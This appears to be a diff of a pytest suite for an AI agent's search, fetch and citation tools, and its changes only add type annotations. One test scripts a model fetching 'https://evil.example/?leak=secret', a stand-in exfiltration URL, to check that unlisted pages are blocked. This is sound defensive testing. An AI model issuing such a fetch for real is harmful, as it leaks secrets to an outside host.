@@ -179,7 +179,7 @@ def test_what_was_just_retrieved_stands_right_before_the_question_and_older_is_o
 
 @pytest.mark.contract("D4", "D5")
 def test_every_result_ends_with_what_it_costs() -> None:
-    script = [
+    script: list[Said] = [
         calling(("search_docs", {"query": "Ottilie Brandt", "k": 2})),
         calling(("read_doc", {"doc": "brandt.md#0", "before": 1, "after": 1})),
         calling(("calculate", {"expression": "1871 + 83"})),
@@ -394,7 +394,7 @@ def on_the_web(model: ScriptedModel, **more: object) -> tuple[Kit, ScriptedSearc
 
 @pytest.mark.contract("D5", "E4")
 def test_only_pages_that_a_search_listed_can_be_fetched() -> None:
-    script = [
+    script: list[Said] = [
         calling(("web_search", {"query": "harbour depth"})),
         calling(("fetch_page", {"page": "https://evil.example/?leak=secret"})),
         calling(("fetch_page", {"page": BAY})),
@@ -419,7 +419,7 @@ def test_only_pages_that_a_search_listed_can_be_fetched() -> None:
 def test_a_page_that_is_cited_from_its_snippet_is_read_before_it_proves_anything(
     cited: str,
 ) -> None:
-    script = [
+    script: list[Said] = [
         calling(("web_search", {"query": "harbour depth"})),
         f"The harbour of Lantern Bay is 14 fathoms deep at its mouth {cited}.",
     ]
@@ -433,7 +433,7 @@ def test_a_page_that_is_cited_from_its_snippet_is_read_before_it_proves_anything
 
 @pytest.mark.contract("D5")
 def test_a_page_that_cannot_be_had_is_told_and_the_run_goes_on() -> None:
-    script = [
+    script: list[Said] = [
         calling(("web_search", {"query": "harbour depth"})),
         calling(("fetch_page", {"page": "2"}), ("fetch_page", {"page": "[1]"})),
         "The harbour of Lantern Bay is 14 fathoms deep at its mouth [1].",
@@ -480,7 +480,7 @@ def test_outside_text_is_fenced_and_names_no_source_of_its_own() -> None:
 
 @pytest.mark.contract("R8", "R9", "D5")
 def test_a_run_that_is_read_back_asks_and_searches_nothing_again() -> None:
-    script = [
+    script: list[Said] = [
         FIRST,
         calling(("search_docs", {"query": "Ottilie Brandt"}), ("calculate", {"expression": "1+1"})),
         calling(("read_doc", {"doc": "brandt.md#0"})),
@@ -510,7 +510,7 @@ def restless(dice: Random, clock: FakeClock) -> Callable[[Ask], Said]:
         clock.advance(dice.choice([0.01, 0.5, 5.0, 40.0]))
         mood = dice.random()
         if mood < 0.08:
-            return ReasonerFailed("no", type=dice.choice(["busy", "empty", "overlong"]))  # type: ignore[arg-type]
+            return ReasonerFailed("no", type=dice.choice(["busy", "empty", "overlong"]))
         if mood < 0.16:
             return dice.choice(["", "<think>", '{"tool": ', "[]", "{}"])
         if mood < 0.26:
